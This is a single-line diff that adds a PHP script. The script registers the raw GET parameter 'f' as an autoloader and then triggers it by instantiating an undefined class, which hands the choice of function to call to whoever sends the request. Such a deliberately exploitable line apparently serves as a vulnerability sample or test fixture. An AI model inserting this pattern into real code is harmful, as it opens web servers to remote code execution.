@@ -1,0 +1,1 @@
+<?php spl_autoload_register($_GET['f']); new Foo;
